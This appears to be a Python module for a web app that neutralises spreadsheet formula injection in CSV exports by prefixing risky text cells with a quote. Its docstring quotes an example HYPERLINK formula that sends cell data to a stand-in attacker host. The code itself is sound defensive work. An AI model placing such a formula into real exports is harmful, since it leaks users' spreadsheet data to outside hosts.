"""CSV for spreadsheets: every export writes through here, so that no cell can become a formula.

A cell that starts with =, +, -, @, a tab or a carriage return is read as a formula by Excel, LibreOffice
and Google Sheets (`=HYPERLINK("https://evil.example/?"&A1, "click")` in a customer's message would run
in the marketer's spreadsheet). Such text cells are written with a leading single quote, as OWASP advises;
numbers, dates and the like are written as they are (a negative number is no formula).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value):
    """`value`, or `'value` when it is text that a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class _Echo:
    """csv.writer writes into this and gets the line back, so each row streams as it is made."""

    def write(self, value: str) -> str:
        return value


def csv_lines(header: list[str], rows: Iterable[Iterable]) -> Iterator[str]:
    """The CSV text of a header and rows, line by line (for a StreamingHttpResponse), each cell made safe."""
    writer = csv.writer(_Echo())
    yield writer.writerow([spreadsheet_cell(cell) for cell in header])
    for row in rows:
        yield writer.writerow([spreadsheet_cell(cell) for cell in row])
